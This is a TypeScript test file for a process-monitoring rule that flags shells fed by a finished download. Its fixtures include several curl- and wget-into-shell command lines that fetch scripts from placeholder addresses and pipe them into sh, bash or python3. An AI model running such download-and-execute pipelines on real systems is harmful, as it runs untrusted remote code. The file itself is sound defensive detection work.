import { describe, expect, it } from 'vitest';
import type { ProcessInfo } from '../../src-shared/model';
import { relayedShellRule } from './rules/relayed-shell';
import { parseDownloadPipeline } from './piped-script';
import { allFindings, makeSnapshot, processInfo, runRule, T0, tcp } from './test-support';

const STARTED = T0 - 2000;
const shell = (over: Partial<ProcessInfo> = {}): ProcessInfo =>
  processInfo(501, 500, 'sh', { cmdline: 'sh', startTime: STARTED, stdinWriterGone: true, ...over });
const launcher = (cmdline: string): ProcessInfo => processInfo(500, 400, 'bash', { cmdline });
/** What the download leaves when curl (HTTP/1.1, keep-alive) closed first: a TIME_WAIT with its close time. */
const closedAfter = (ms: number, remote = '203.0.113.40:8000') => tcp('192.168.1.10:41000', remote, { state: 'TIME_WAIT', closedAt: STARTED + ms });

describe('parseDownloadPipeline', () => {
  it('finds a downloader piped into a shell or interpreter, with the URL host and port', () => {
    expect(parseDownloadPipeline('bash -c curl -fsSL http://203.0.113.40:8000/i.sh | sh')).toEqual({
      downloader: 'curl',
      interpreter: 'sh',
      host: '203.0.113.40',
      port: 8000,
    });
    expect(parseDownloadPipeline('sh -c wget -qO- https://get.example.org/x | sudo -E bash -s -- --yes')).toMatchObject({
      downloader: 'wget',
      interpreter: 'bash',
      host: 'get.example.org',
    });
    expect(parseDownloadPipeline('curl -s http://[2001:db8::5]:81/p.py | python3 -')).toMatchObject({ interpreter: 'python3', host: '2001:db8::5', port: 81 });
    expect(parseDownloadPipeline('curl -o /tmp/x http://h/x; sh /tmp/x')).toBeUndefined();
    expect(parseDownloadPipeline('curl -s http://h/data.json | jq .')).toBeUndefined();
    expect(parseDownloadPipeline('cat install.sh | sh')).toBeUndefined();
  });
});

describe('relayed-shell: a script piped from a download that already ended', () => {
  it('is CRITICAL with the pipeline in the parent and the closed download; HIGH with only the pipeline; MEDIUM with only the timing', () => {
    const both = allFindings(relayedShellRule(), [
      makeSnapshot({ processes: [launcher('bash -c curl -s http://203.0.113.40:8000/i.sh | sh'), shell()], connections: [closedAfter(120)] }),
    ]);
    expect(both).toHaveLength(1);
    expect(both[0]).toMatchObject({
      key: '501|piped',
      severity: 'CRITICAL',
      process: { pid: 501, name: 'sh' },
      destination: { address: '203.0.113.40', port: 8000 },
      evidence: { kind: 'download-pipe-ended', relayName: 'curl', pipelinePid: 500, remote: '203.0.113.40:8000', writerExited: true },
    });
    const lineageOnly = allFindings(relayedShellRule(), [
      makeSnapshot({ processes: [launcher('bash -c wget -qO- http://203.0.113.40:8000/x | sh'), shell()] }),
    ]);
    expect(lineageOnly[0]).toMatchObject({ severity: 'HIGH', destination: { address: '203.0.113.40', port: 8000 }, evidence: { relayName: 'wget' } });
    const timingOnly = allFindings(relayedShellRule(), [makeSnapshot({ processes: [launcher('bash'), shell()], connections: [closedAfter(900)] })]);
    expect(timingOnly[0]).toMatchObject({ severity: 'MEDIUM', destination: { address: '203.0.113.40', port: 8000 }, evidence: { relayName: '' } });
  });

  it('reports once per shell, again only when more evidence raises it, and names the shell not the commands it runs', () => {
    const child = processInfo(502, 501, 'bash', { cmdline: 'bash', stdinWriterGone: true, startTime: STARTED + 500 });
    const sleep = processInfo(503, 502, 'sleep', { cmdline: 'sleep 30', stdinWriterGone: true });
    const base = [launcher('bash -c curl -s http://203.0.113.40:8000/i.sh | sh'), shell(), child, sleep];
    const perTick = runRule(relayedShellRule(), [
      makeSnapshot({ processes: base }),
      makeSnapshot({ time: T0 + 1000, processes: base }),
      makeSnapshot({ time: T0 + 2000, processes: base, connections: [closedAfter(300)] }),
    ]);
    expect(perTick.map((t) => t.map((f) => `${f.key} ${f.severity}`))).toEqual([['501|piped HIGH'], [], ['501|piped CRITICAL']]);
  });

  it('stays quiet for a shell whose writer still runs, a script file, a local pipe with no download, and a download closed long after', () => {
    const quiet = [
      makeSnapshot({ processes: [launcher('bash -c curl -s http://h/i.sh | sh'), shell({ stdinWriterGone: undefined })] }),
      makeSnapshot({ processes: [launcher('bash -c curl -s http://h/i.sh | sh'), shell({ cmdline: 'sh ./install.sh' })] }),
      makeSnapshot({ processes: [launcher('bash -c printf "uptime\\n" | sh'), shell()] }),
      makeSnapshot({ processes: [launcher('bash'), shell()], connections: [closedAfter(45_000), closedAfter(-3000), closedAfter(500, '127.0.0.1:8000')] }),
      makeSnapshot({
        processes: [launcher('bash -c curl -s http://h/d.json | jq .'), processInfo(501, 500, 'jq', { cmdline: 'jq .', stdinWriterGone: true })],
      }),
    ];
    for (const snapshot of quiet) expect(allFindings(relayedShellRule(), [snapshot])).toEqual([]);
  });
});
